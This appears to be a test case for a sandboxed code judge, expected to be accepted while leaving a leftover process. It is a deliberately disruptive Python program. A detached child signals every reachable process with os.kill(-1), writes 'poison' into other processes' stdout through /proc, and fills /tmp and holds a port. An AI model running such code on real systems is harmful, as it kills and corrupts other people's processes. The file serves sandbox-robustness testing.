# expect: AC; leftover
import glob
import os
import signal
import socket


def disturb():
    """Writes files, signals everybody, writes to every standard output that it can open, and holds a port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 8080))
    listener.listen()
    count = 0
    while True:
        count += 1
        for act in (
            lambda: open(f"/tmp/{count % 1000}", "w").write("poison"),
            lambda: os.kill(-1, signal.SIGTERM if count % 2 else signal.SIGHUP),
            lambda: [open(path, "w").write("poison\n") for path in glob.glob("/proc/*/fd/1") if f"/{mine}/" not in path],
        ):
            try:
                act()
            except OSError:
                pass
        if count == 2:
            os.write(tell, b"x")


def attack():
    global tell, mine
    mine = os.getpid()
    ready, tell = os.pipe()
    for name in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(name, signal.SIG_IGN)
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        os.dup2(null, 1)
        disturb()
    os.read(ready, 1)
    print("right")
